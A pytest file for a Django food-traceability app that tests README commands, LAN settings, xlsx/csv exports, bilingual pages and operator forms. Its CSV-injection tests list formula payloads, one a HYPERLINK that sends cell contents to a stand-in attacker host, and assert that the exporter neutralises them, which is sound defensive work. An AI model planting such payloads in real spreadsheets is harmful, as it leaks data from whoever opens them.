"""What a new user tripped on (issue 10, point 5) and the export attacks (issue 9, item 8).

Each test follows a newcomer's step: the README's commands, a phone on the
LAN, the spreadsheet a regulator opens, the English page, the operator's
form, the unknown lot, the admin and the browser tab's icon.
"""

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from trace.core.identifiers import digital_link_path
from trace.core.labels import localized_specification, region_name, unit_label
from trace.core.services import batch_receive, batch_ship, batch_transform
from trace.demo.seed import DEMO_PASSWORD, seed_demo
from trace.exports import safe_cell, sheet_title
from trace.models import Batch, Custody, Event
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from config.celery import app as celery_app
from tests.factories import EnterpriseFactory, ProductFactory, SiteFactory, UserFactory, produce

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
README = (ROOT / "README.md").read_text(encoding="utf-8")


def url(batch, suffix=""):
    return digital_link_path(batch.gtin, batch.lot) + suffix


def signed_in(persona):
    client = Client()
    client.force_login(persona.user)
    return client


def body(response) -> str:
    return response.content.decode()


# --- README: the EPCIS example and the token ------------------------------------------


def _readme_block(marker: str) -> str:
    for block in re.findall(r"```sh\n(.*?)```", README, re.S):
        if marker in block:
            return block
    raise AssertionError(f"no sh block with {marker!r} in the README")


def test_every_file_the_readme_posts_is_in_the_repository():
    posted = re.findall(r"--data-binary @(\S+)", README)
    assert posted, "the README shows an EPCIS capture"
    for name in posted:
        assert (ROOT / name).is_file(), name


def test_readme_token_line_extracts_the_token_the_api_answers(client):
    """The README's ``TOKEN=$(curl … | python3 -c …)``, run on what the server answers."""
    seed_demo()
    block = _readme_block("TOKEN=$(")
    code = re.search(r"python3 -c '([^']+)'", block).group(1)
    answer = client.post(
        "/api/v1/auth/token/",
        {"username": "city-regulator", "password": DEMO_PASSWORD},
        content_type="application/json",
    )
    assert answer.status_code == 200
    result = subprocess.run(
        [sys.executable, "-c", code], input=answer.content, capture_output=True, check=True
    )
    token = result.stdout.decode().strip()
    assert (
        token
        and client.get("/api/v1/batches/", HTTP_AUTHORIZATION=f"Token {token}").status_code == 200
    )


@pytest.fixture
def celery_inline():
    """The capture job runs inline here even when REDIS_URL points at a real broker."""
    conf = celery_app.conf
    saved = conf.task_always_eager, conf.task_eager_propagates
    conf.task_always_eager, conf.task_eager_propagates = True, True
    yield
    conf.task_always_eager, conf.task_eager_propagates = saved


def test_readme_epcis_example_captures_a_lot_and_its_shipment(
    django_capture_on_commit_callbacks, celery_inline
):
    """The example file, posted as the README says (as the demo dairy), makes the lot
    and ships half of it to the demo distributor."""
    seed_demo()
    name = re.search(r"--data-binary @(\S+)", README).group(1)
    client = Client()
    token = client.post(
        "/api/v1/auth/token/",
        {"username": "producer", "password": DEMO_PASSWORD},
        content_type="application/json",
    ).json()["token"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.generic(
            "POST",
            "/epcis/capture",
            (ROOT / name).read_bytes(),
            content_type="application/ld+json",
            HTTP_AUTHORIZATION=f"Token {token}",
        )
    assert response.status_code == 202, response.content
    job = client.get(response["Location"], HTTP_AUTHORIZATION=f"Token {token}").json()
    assert job["success"] is True and job["capturedEventCount"] == 2, job
    lot = Batch.objects.get(lot="YG-EXAMPLE-01")
    assert lot.gtin == "06901234500028"  # the demo yogurt's GTIN
    distributor = Custody.objects.get(
        batch=lot, organization__memberships__user__username="distributor"
    )
    assert distributor.in_transit == Decimal(600)


# --- a phone on the LAN ------------------------------------------------------------------


def _settings_in_subprocess(**env) -> dict:
    code = (
        "import json, django; django.setup(); from django.conf import settings; "
        "print(json.dumps({'hosts': settings.ALLOWED_HOSTS, 'base': settings.PUBLIC_BASE_URL}))"
    )
    environment = {
        k: v for k, v in os.environ.items() if k not in ("ALLOWED_HOSTS", "PUBLIC_BASE_URL")
    }
    environment.update(env, DJANGO_SETTINGS_MODULE="config.settings", SUYUAN_DEV="1")
    result = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=environment, capture_output=True, check=True
    )
    return json.loads(result.stdout)


def test_the_public_base_url_host_is_allowed_so_a_phone_on_the_lan_gets_the_page():
    lan = _settings_in_subprocess(PUBLIC_BASE_URL="http://192.168.1.20:8000")
    assert "192.168.1.20" in lan["hosts"] and "127.0.0.1" in lan["hosts"]
    listed = _settings_in_subprocess(
        ALLOWED_HOSTS="trace.example.cn", PUBLIC_BASE_URL="https://scan.example.cn"
    )
    assert listed["hosts"] == ["trace.example.cn", "scan.example.cn"]
    ipv6 = _settings_in_subprocess(PUBLIC_BASE_URL="http://[fd00::2]:8000")
    assert "[fd00::2]" in ipv6["hosts"]


@pytest.mark.skipif(shutil.which("make") is None, reason="make is not installed")
def test_make_run_listens_on_host_and_prints_codes_for_the_lan():
    def dry_run(**env):
        environment = {
            k: v for k, v in os.environ.items() if k not in ("HOST", "PUBLIC_BASE_URL", "PORT")
        }
        environment.update(env)
        return subprocess.run(
            ["make", "-n", "run"],
            cwd=ROOT,
            env=environment,
            capture_output=True,
            text=True,
            check=True,
        ).stdout

    assert "runserver 127.0.0.1:8102" in dry_run(PORT="8102")
    assert "runserver 0.0.0.0:8102" in dry_run(PORT="8102", HOST="0.0.0.0")

    def base_url(**env):
        environment = {
            k: v for k, v in os.environ.items() if k not in ("HOST", "PUBLIC_BASE_URL", "PORT")
        }
        environment.update(env)
        return subprocess.run(
            ["make", "-s", "--eval", "show-base-url: ; @echo $(PUBLIC_BASE_URL)", "show-base-url"],
            cwd=ROOT,
            env=environment,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()

    assert base_url(PORT="8102") == "http://127.0.0.1:8102"
    # Listening on every interface, the QR codes carry an address a phone can reach (not loopback).
    lan = base_url(PORT="8102", HOST="0.0.0.0")
    assert re.fullmatch(r"http://[^/]+:8102", lan) and "0.0.0.0" not in lan
    assert (
        base_url(HOST="0.0.0.0", PUBLIC_BASE_URL="http://192.168.1.20:8000")
        == "http://192.168.1.20:8000"
    )
    makefile = (ROOT / "Makefile").read_text()
    assert "HOST ?= 127.0.0.1" in makefile
    assert "HOST=0.0.0.0 make run" in README and "ALLOWED_HOSTS" in README


# --- the spreadsheet a regulator opens -------------------------------------------------


@pytest.fixture
def shipped(enterprise, partner):
    """A lot made at the plant and 20 cups of it shipped to the partner, by names a newcomer uses."""
    enterprise.org.name, enterprise.org.name_en = "彭城乳业", "Pengcheng Dairy"
    enterprise.org.save()
    product = ProductFactory(
        owner=enterprise.org, name="酸奶", name_en="Yogurt", specification="200 g/杯"
    )
    plant = SiteFactory(
        owner=enterprise.org, name="铜山工厂", address="江苏省徐州市铜山区银山路8号"
    )
    batch = produce(enterprise.user, product, lot="YG-1", quantity=Decimal(100), site=plant)
    batch_ship(
        batch=batch, to=partner.org, quantity=Decimal("20.5"), actor=enterprise.user, site=plant
    )
    return batch


def _sheet(persona, batch, language="en"):
    response = persona.client.get(
        f"/api/v1/batches/{batch.pk}/trace.xlsx", HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 200, response.content[:500]
    return load_workbook(io.BytesIO(response.content)).active


def _records(sheet):
    header = [c.value for c in sheet[1]]
    return header, [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_xlsx_labels_beside_codes_real_dates_and_numbers_bold_frozen_header(enterprise, shipped):
    sheet = _sheet(enterprise, shipped)
    header, rows = _records(sheet)
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    shipping = next(r for r in rows if r["Business step (CBV code)"].value == "shipping")
    assert shipping["Critical tracking event"].value == "Shipment"
    assert (shipping["Disposition"].value, shipping["Disposition (CBV code)"].value) == (
        "In transit",
        "in_transit",
    )
    assert (shipping["Unit"].value, shipping["Unit (UN/ECE code)"].value) == ("pieces", "EA")
    quantity = shipping["Quantity"]
    assert quantity.data_type == "n" and quantity.value == 20.5
    when = shipping["Event time (Asia/Shanghai)"]
    assert isinstance(when.value, datetime) and when.number_format == "yyyy-mm-dd hh:mm:ss"
    event = Event.objects.get(biz_step="shipping")
    expected = event.event_time.astimezone(ZoneInfo("Asia/Shanghai")).replace(
        tzinfo=None, microsecond=0
    )
    assert when.value.replace(microsecond=0) == expected
    # Wide enough for what they hold: the event ID column is wider than the unit code's.
    widths = {
        title: sheet.column_dimensions[chr(ord("A") + i)].width for i, title in enumerate(header)
    }
    assert widths["Event ID"] > widths["Unit (UN/ECE code)"] >= 8


def test_xlsx_and_csv_labels_follow_the_language_asked_for(enterprise, shipped):
    _header, rows = _records(_sheet(enterprise, shipped, language="zh-hans"))
    shipping = next(r for r in rows if r["业务步骤（CBV 代码）"].value == "shipping")
    assert shipping["关键追溯事件"].value == "发货"
    assert shipping["单位"].value == "件"
    assert shipping["状态"].value == "运输中"
    text = enterprise.client.get(f"/api/v1/batches/{shipped.pk}/trace.csv").content.decode(
        "utf-8-sig"
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["业务步骤（CBV 代码）"] == "shipping")
    assert (row["关键追溯事件"], row["数量"], row["单位"]) == ("发货", "20.5", "件")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", row["事件时间（Asia/Shanghai）"])


def test_a_control_character_in_a_name_does_not_break_the_export(enterprise, partner):
    """Issue 9: a site named "Shop\\u0001" made trace.xlsx answer 500 for everyone."""
    product = ProductFactory(owner=enterprise.org)
    shop = SiteFactory(owner=enterprise.org, name="Shop\u0001", address="江苏省徐州市铜山区")
    partner.org.name = "Partner\u0007\u001b\u0085 Ltd"  # (PostgreSQL refuses NUL itself)
    partner.org.save()
    batch = produce(enterprise.user, product, lot="CTRL-1", quantity=Decimal(10), site=shop)
    batch_ship(batch=batch, to=partner.org, quantity=Decimal(1), actor=enterprise.user, site=shop)
    _header, rows = _records(_sheet(enterprise, batch))
    assert {r["Location"].value for r in rows} == {"Shop"}
    assert "Partner Ltd" in {r["Ship to"].value for r in rows}
    text = enterprise.client.get(f"/api/v1/batches/{batch.pk}/trace.csv").content.decode(
        "utf-8-sig"
    )
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
    assert ",Shop," in text


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_formula_leading_cells_are_text_in_csv_and_xlsx(enterprise, partner, name):
    """OWASP CSV injection: a cell starting with = + - @ (or tab / CR) gets a leading apostrophe,
    in both formats, and xlsx stores it as a string, never a formula."""
    partner.org.name = name
    partner.org.save()
    batch = produce(
        enterprise.user, ProductFactory(owner=enterprise.org), lot="F-1", quantity=Decimal(10)
    )
    batch_ship(batch=batch, to=partner.org, quantity=Decimal(1), actor=enterprise.user)
    _header, rows = _records(_sheet(enterprise, batch))
    cell = next(r["Ship to"] for r in rows if r["Ship to"].value)
    # (xlsx keeps a CR as a line feed; what matters is the apostrophe in front.)
    assert cell.data_type == "s" and cell.value.replace("\n", "\r") == "'" + name
    text = enterprise.client.get(f"/api/v1/batches/{batch.pk}/trace.csv").content.decode(
        "utf-8-sig"
    )
    values = [row[10] for row in csv.reader(io.StringIO(text))][1:]
    assert "'" + name in values
    assert name not in values


def test_one_sanitiser_for_both_writers():
    assert safe_cell("Shop\u0001") == "Shop"
    assert safe_cell("\u0001=1") == "'=1"  # stripping cannot uncover a formula
    assert safe_cell("a=b") == "a=b" and safe_cell("多行\n文本") == "多行\n文本"
    assert safe_cell(Decimal("-5")) == Decimal("-5")  # numbers stay numbers
    assert sheet_title("A/B:C*?[1]") == "A-B-C---1-" and sheet_title("\u0001") == "trace"


def test_a_lot_with_slashes_exports_as_xlsx(enterprise):
    batch = produce(
        enterprise.user, ProductFactory(owner=enterprise.org), lot="2026/11:A*", quantity=Decimal(1)
    )
    sheet = _sheet(enterprise, batch)
    assert sheet.title == "2026-11-A-"


# --- the consumer page in English and in Chinese ----------------------------------------


def test_region_names_from_the_code_in_both_languages():
    assert region_name("320312", english=True) == "Tongshan District, Xuzhou, Jiangsu"
    assert region_name("320312", english=False) == "江苏省徐州市铜山区"
    assert region_name("320399", english=True) == "Xuzhou, Jiangsu"  # county not in the table
    assert region_name("330106", english=True) == "Zhejiang"  # city and county not in the table
    assert region_name("110101", english=True) == "Beijing"
    assert region_name("990000", english=True) == "" and region_name("", english=True) == ""


def test_units_and_pack_sizes_in_the_readers_language():
    with translation.override("zh-hans"):
        assert (unit_label("EA"), unit_label("KGM"), unit_label("ZZZ")) == ("件", "千克", "ZZZ")
    with translation.override("en"):
        assert (unit_label("EA"), unit_label("KGM")) == ("pieces", "kg")
    assert localized_specification("200 g/杯", english=True) == "200 g/cup"
    assert localized_specification("散装 / bulk, kg", english=True) == "bulk, kg"
    # Chinese readers get the Chinese half of a bilingual specification, and a plain one whole.
    assert localized_specification("散装 / bulk, kg", english=False) == "散装"
    assert localized_specification("200 g/杯", english=False) == "200 g/杯"
    assert localized_specification("特级礼盒装", english=True) == ""  # nothing rather than Chinese
    assert localized_specification("200 g/杯", english=False) == "200 g/杯"


def test_english_page_has_english_region_and_pack_size(shipped, anonymous):
    page = body(Client().get(url(shipped), HTTP_ACCEPT_LANGUAGE="en"))
    assert "Tongshan District, Xuzhou, Jiangsu" in page
    assert "200 g/cup" in page
    assert "江苏" not in page and "杯" not in page.replace('lang="zh-Hans"', "")


def test_chinese_operator_sees_units_in_chinese(enterprise, shipped):
    page = body(signed_in(enterprise).get(url(shipped)))
    assert "79.5 件" in page and " EA" not in page


def test_a_lot_without_recorded_inputs_does_not_guess_its_origin(enterprise, partner, shipped):
    """The plant's district is not where the raw materials came from."""
    page = body(Client().get(url(shipped), HTTP_ACCEPT_LANGUAGE="en"))
    assert re.search(r'<dd id="origin-region">not recorded</dd>', page)
    assert (
        Client()
        .get(f"/api/v1/public/batches/{shipped.gtin}/{shipped.lot}/")
        .json()["origin_region"]
        == ""
    )
    farmer = UserFactory(organization=EnterpriseFactory(region_code="320324"))
    farm = farmer.membership.organization
    milk = produce(
        farmer,
        ProductFactory(owner=farm),
        lot="RM-1",
        quantity=Decimal(50),
        site=SiteFactory(owner=farm, address="江苏省徐州市睢宁县魏集镇"),
    )
    batch_ship(batch=milk, to=enterprise.org, quantity=Decimal(50), actor=farmer)
    batch_receive(batch=milk, actor=enterprise.user)
    made = batch_transform(
        inputs=[(milk, Decimal(50))],
        product=shipped.product,
        lot="YG-2",
        quantity=Decimal(100),
        unit="EA",
        actor=enterprise.user,
    )
    chinese = body(Client().get(url(made)))
    assert '<dd id="origin-region">江苏省徐州市睢宁县</dd>' in chinese
    english = body(Client().get(url(made), HTTP_ACCEPT_LANGUAGE="en"))
    assert '<dd id="origin-region">Suining County, Xuzhou, Jiangsu</dd>' in english


# --- the operator's form ------------------------------------------------------------


def test_signed_in_page_links_to_the_form_and_comes_back_to_it_saying_what_was_recorded(
    enterprise, partner, shipped
):
    partner.org.name_en = "Huaihai Cold Chain"
    partner.org.save()
    client = signed_in(enterprise)
    page = body(client.get(url(shipped), HTTP_ACCEPT_LANGUAGE="en"))
    assert page.index('href="#log"') < page.index('id="product-title"')  # near the top
    assert 'id="log"' in page
    response = client.post(
        url(shipped, "/actions/ship"),
        {"ship-to_organization": partner.org.pk, "ship-quantity": "20"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 302 and response["Location"].endswith("#log")
    page = body(client.get(url(shipped), HTTP_ACCEPT_LANGUAGE="en"))
    log = page[page.index('id="log"') :]
    assert "Recorded: shipment of 20 pieces to Huaihai Cold Chain." in log
    client.post(
        url(shipped, "/actions/inspect"), {"inspect-result": "pass", "inspect-report_ref": "QC-7"}
    )
    assert "已记录：检验，结果 合格，报告 QC-7。" in body(client.get(url(shipped)))


def test_signing_in_without_next_lands_on_your_lots(enterprise, shipped):
    client = Client()
    response = client.post(
        "/accounts/login/",
        {"username": enterprise.user.username, "password": "pw-for-tests-2026"},
        follow=True,
    )
    page = body(response)
    assert response.redirect_chain[-1][0] == "/accounts/"
    assert url(shipped, "#log") in page  # the lot, straight to its form
    assert 'href="/api/docs/"' in page and 'action="/lookup/"' in page


# --- unknown lots, lookup, favicon, admin ----------------------------------------------------


def test_unknown_lot_page_explains_and_offers_a_way_on(shipped):
    response = Client().get(f"/01/{shipped.gtin}/10/NOPE-1", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 404
    page = body(response)
    assert 'action="/lookup/"' in page and 'value="NOPE-1"' in page
    assert 'id="way-home"' in page and "mistyped" in page
    found = Client().get("/lookup/", {"gtin": shipped.gtin, "lot": shipped.lot})
    assert found.status_code == 302 and found["Location"] == url(shipped)
    missing = Client().get(
        "/lookup/", {"gtin": shipped.gtin, "lot": "NOPE-1"}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert missing.status_code == 404 and "No lot with this GTIN" in body(missing)
    bad = Client().get("/lookup/", {"gtin": "123", "lot": "X"})
    assert bad.status_code == 400 and 'id="id_gtin_error"' in body(bad)
    assert Client().get("/lookup/").status_code == 200


def test_favicon_is_served():
    ico = Client().get("/favicon.ico")
    assert ico.status_code == 200 and ico["Content-Type"] == "image/vnd.microsoft.icon"
    assert ico.content[:4] == b"\x00\x00\x01\x00"
    svg = Client().get("/favicon.svg")
    assert svg.status_code == 200 and svg.content.startswith(b"<svg")


def test_admin_is_branded_in_the_operators_language(admin_client):
    assert "溯源管理后台" in body(admin_client.get("/admin/"))
    page = body(admin_client.get("/admin/", HTTP_ACCEPT_LANGUAGE="en"))
    assert "Suyuan administration" in page and "Django administration" not in page
